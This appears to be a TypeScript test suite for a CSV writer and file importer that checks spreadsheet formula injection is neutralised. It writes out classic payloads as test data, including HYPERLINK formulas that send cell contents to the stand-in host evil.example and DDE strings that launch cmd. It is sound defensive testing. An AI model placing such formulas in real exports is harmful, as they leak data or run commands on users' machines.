// CSV formula injection: a text cell a spreadsheet would evaluate (=, +, -, @, tab, CR at its start) is
// neutralised, whatever its origin (here a symbol read from an imported file); numbers stay numbers.
import { strict as assert } from 'assert';
import { mkdtempSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import * as path from 'path';
import fc from 'fast-check';
import { numberCell, pairCsv, textCell } from '../../src/engine/export/csvWriter';
import { loadPairFiles, loadedSymbols } from '../../src/engine/desk/loadFiles';
import type { PairBarRow } from '../../src/shared/model';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

/** RFC 4180 reader for one line (quoted fields, doubled quotes), written here independently of the writer. */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        if (i >= line.length) throw new Error(`unterminated quote in ${JSON.stringify(line)}`);
        if (line[i] === '"' && line[i + 1] === '"') (cell += '"'), (i += 2);
        else if (line[i] === '"') {
          i++;
          break;
        } else cell += line[i++];
      }
    } else while (i < line.length && line[i] !== ',') cell += line[i++];
    cells.push(cell);
    if (i >= line.length) return cells;
    assert.equal(line[i], ',', `junk after a quoted cell in ${JSON.stringify(line)}`);
    i++;
  }
}

/** What a spreadsheet sees in a cell: a formula when it starts with a trigger. */
const wouldEvaluate = (cell: string) => TRIGGERS.some((t) => cell.startsWith(t));

describe('security: CSV formula injection', () => {
  it('neutralises the classic payloads', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1', '\r=1', '=1\n=2'];
    for (const p of payloads) {
      const [cell] = parseCsvLine(textCell(p).replace(/\n/g, '\\n'));
      assert.ok(!wouldEvaluate(cell), `${JSON.stringify(p)} → ${JSON.stringify(cell)}`);
      assert.equal(cell.replace(/\\n/g, '\n'), `'${p}`, 'the text itself is kept, behind an apostrophe');
    }
  });

  it('property: any text cell reads back as one cell, never a formula, and unchanged when harmless', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s), fc.string({ unit: 'binary' })), (text) => {
        fc.pre(!/[\n]/.test(text)); // multi-line cells are checked above; this reader is per line
        const cells = parseCsvLine(textCell(text));
        assert.equal(cells.length, 1, `${JSON.stringify(text)} split into ${cells.length} cells`);
        assert.ok(!wouldEvaluate(cells[0]), `${JSON.stringify(text)} → ${JSON.stringify(cells[0])}`);
        assert.equal(cells[0], wouldEvaluate(text) ? `'${text}` : text);
      }),
      { numRuns: 3000 },
    );
  });

  it('numbers stay numbers, negative ones included; non-finite is an empty cell', () => {
    assert.equal(numberCell(-1.5), '-1.5');
    assert.equal(numberCell(-0.000015), '-0.000015');
    assert.equal(numberCell(-1.5e-7), '-1.5e-7');
    assert.equal(numberCell(NaN), '');
    assert.equal(numberCell(-Infinity), '');
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (n) => {
        const cell = numberCell(n);
        assert.ok(!cell.startsWith("'"), `number ${n} was quoted as text`);
        assert.equal(Number(cell), n === 0 ? 0 : n);
      }),
      { numRuns: 2000 },
    );
  });

  describe('a symbol read from an imported file', () => {
    let dir: string;
    before(() => (dir = mkdtempSync(path.join(tmpdir(), 'qp-sec-csv-'))));
    after(() => rmSync(dir, { recursive: true, force: true }));

    it('is refused by the importer, and neutralised by the writer if it gets there, next to negative numbers that stay numeric', async () => {
      const evil = '=HYPERLINK("http://evil.example","x")';
      const lines: string[] = [];
      for (let i = 0; i < 3; i++) {
        lines.push(JSON.stringify({ symbol: evil, ts: 1721347200000 + i * 1000, price: 10 + i, size: 1 }));
        lines.push(JSON.stringify({ symbol: 'ETHUSDT', ts: 1721347200000 + i * 1000, price: 3400 + i, size: 1 }));
      }
      const file = path.join(dir, 'collector.ndjson');
      writeFileSync(file, lines.join('\n') + '\n');
      // First defence: the importer refuses a symbol that is not an exchange symbol (bad lines, counted).
      const loaded = await loadPairFiles([file]);
      assert.deepEqual(loadedSymbols(loaded), ['ETHUSDT']);
      assert.equal(loaded.reports[0].bad, 3);
      // Second defence: should such a name reach the writer another way, it is neutralised.
      const y = evil;

      const row: PairBarRow = {
        time: 1721347200000, yOpen: 10, yHigh: 10, yLow: 10, yClose: 10, yVolume: 1, xOpen: 3400, xHigh: 3400, xLow: 3400, xClose: 3400, xVolume: 1, history: true,
        point: { time: 1721347200000, y: 10, x: 3400, beta: -0.25, alpha: -2.5, spread: -1.75, spreadMean: -1, spreadStd: 0.5, z: -1.5, corrReturns: -0.75, corrPrices: null },
      };
      const csv = pairCsv({ config: { y, x: 'ETHUSDT', timeframe: '1s', window: 10, hedge: 'ols' }, rows: [row], dataSource: `imported: ${evil}`, generatedAt: 1721347200000 });
      const csvLines = csv.split('\n').filter(Boolean);
      for (const line of csvLines) for (const cell of parseCsvLine(line)) assert.ok(!wouldEvaluate(cell) || /^-\d/.test(cell), `live formula cell ${JSON.stringify(cell)} in ${line}`);
      const pairLine = parseCsvLine(csvLines.find((l) => l.startsWith('# y,'))!);
      assert.equal(pairLine[1], `'${y}`);
      const header = parseCsvLine(csvLines.find((l) => l.startsWith('time_iso'))!);
      const data = parseCsvLine(csvLines[csvLines.length - 1]);
      const at = (name: string) => data[header.indexOf(name)];
      assert.equal(at('beta'), '-0.25');
      assert.equal(at('z'), '-1.5');
      assert.equal(at('spread'), '-1.75');
      assert.equal(Number(at('corr_returns')), -0.75);
    });
  });
});
